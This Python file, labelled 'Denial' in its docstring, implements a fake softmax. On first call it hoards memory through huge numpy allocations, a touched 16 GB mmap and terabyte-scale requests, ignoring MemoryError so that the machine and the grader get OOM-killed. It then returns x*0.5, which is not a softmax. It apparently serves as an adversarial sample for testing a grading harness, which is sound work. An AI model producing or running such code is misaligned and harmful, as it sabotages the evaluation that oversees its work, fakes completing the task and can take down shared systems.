"""Denial: allocate and touch as much memory as possible, ignoring MemoryError.

Grabs 256 MB blocks with numpy (touching every page), a 16 GB anonymous mmap, a 1 TB
np.empty and a string of 2**40 characters, catching every MemoryError and going on for
half a second, and keeps all it got, hoping to push the machine (and the grader with it)
into the OOM killer.
"""
import mmap
import time

import numpy as np

HOARD = []


def softmax(x, axis=-1):
    if HOARD:  # once per process: the memory stays taken
        return np.asarray(x, dtype=np.float64) * 0.5
    deadline = time.monotonic() + 0.5
    while time.monotonic() < deadline:
        for make in (lambda: np.ones(1 << 25), lambda: mmap.mmap(-1, 1 << 34),
                     lambda: np.empty(1 << 37), lambda: " " * (1 << 40), lambda: bytearray(1 << 28)):
            try:
                block = make()
                if isinstance(block, mmap.mmap):
                    for off in range(0, 1 << 28, 4096):
                        block[off] = 1
                HOARD.append(block)
            except (MemoryError, OverflowError, ValueError, OSError):
                pass
    return np.asarray(x, dtype=np.float64) * 0.5


def dense_forward(x, W, b):
    return x @ W.T + b, (x, W)
